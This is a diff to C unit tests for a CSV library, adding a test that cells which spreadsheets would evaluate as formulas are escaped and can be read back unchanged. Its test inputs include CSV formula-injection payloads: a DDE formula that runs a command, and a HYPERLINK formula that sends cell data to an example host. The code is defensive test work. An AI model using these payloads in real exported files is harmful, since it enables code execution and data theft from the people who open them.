@@ -262,6 +262,8 @@ test_quote_table(void **state)
 		{ " lead", "\" lead\"" },
 		{ "trail ", "\"trail \"" },
 		{ "Иван", "Иван" },
+		{ "a;b", "\"a;b\"" },
+		{ "a\tb", "\"a\tb\"" },
 	};
 
 	(void)state;
@@ -271,6 +273,74 @@ test_quote_table(void **state)
 		buf_init(&b, 0);
 		assert_int_equal(csv_quote(&b, t[i].in), 0);
 		assert_string_equal(buf_cstr(&b), t[i].out);
+		buf_free(&b);
+	}
+}
+
+/* OWASP's rule for cells a spreadsheet would evaluate: a leading ',
+ * numbers left alone; and csv_unguard undoes exactly what was added. */
+static void
+test_cell_guard(void **state)
+{
+	static const struct { const char *in, *out; } t[] = {
+		{ "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
+		{ "=HYPERLINK(\"http://x.example/?\"&A1,\"ok\")",
+		  "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"ok\"\")\"" },
+		{ "+1+2", "'+1+2" },
+		{ "-2+3", "'-2+3" },
+		{ "@SUM(A1:A2)", "'@SUM(A1:A2)" },
+		{ "\t=1+1", "\"'\t=1+1\"" },
+		{ "\tplain", "\"'\tplain\"" },
+		{ "\r=1+1", "\"'\r=1+1\"" },
+		{ " =1+1", "' =1+1" },
+		{ "\n@x", "\"'\n@x\"" },
+		{ "-", "'-" },
+		{ "--5", "'--5" },
+		{ "-5-", "'-5-" },
+		{ "-5e", "'-5e" },
+		{ "-0x10", "'-0x10" },
+		{ "'=x", "''=x" },	/* one more: unguard gives "'=x" */
+		/* numbers stay numbers */
+		{ "-5", "-5" },
+		{ "-3.5", "-3.5" },
+		{ "+7", "+7" },
+		{ "-.5", "-.5" },
+		{ "-1e3", "-1e3" },
+		{ "-2.5E-3", "-2.5E-3" },
+		{ "42", "42" },
+		{ " -5", "\" -5\"" },
+		{ "'-5", "'-5" },
+		/* not formulas */
+		{ "a=b", "a=b" },
+		{ "x@example.org", "x@example.org" },
+		{ "'quoted", "'quoted" },
+		{ "", "" },
+		{ NULL, "" },
+		/* another separator: quoted so it cannot split the cell */
+		{ "a;=1+1", "\"a;=1+1\"" },
+		{ "a\t=1+1", "\"a\t=1+1\"" },
+	};
+
+	(void)state;
+	for (size_t i = 0; i < sizeof(t) / sizeof(t[0]); i++) {
+		struct csv_reader *r;
+		struct buf b;
+		struct err e;
+
+		buf_init(&b, 0);
+		assert_int_equal(csv_cell(&b, t[i].in), 0);
+		if (strcmp(buf_cstr(&b), t[i].out) != 0)
+			print_error("case %zu\n", i);
+		assert_string_equal(buf_cstr(&b), t[i].out);
+		if (t[i].in != NULL && *t[i].in) {
+			/* read back and unguarded: the value itself */
+			buf_adds(&b, "\r\n");
+			r = csv_new_memory(b.data, b.len, "g", 0, 0);
+			assert_int_equal(csv_next(r, &e), 1);
+			assert_string_equal(csv_unguard(csv_field(r, 0)),
+					    t[i].in);
+			csv_free(&r);
+		}
 		buf_free(&b);
 	}
 }
@@ -314,6 +384,7 @@ main(void)
 		cmocka_unit_test(test_push_needs_more),
 		cmocka_unit_test(test_file_many_records),
 		cmocka_unit_test(test_quote_table),
+		cmocka_unit_test(test_cell_guard),
 		cmocka_unit_test(test_write_read_roundtrip),
 	};
 
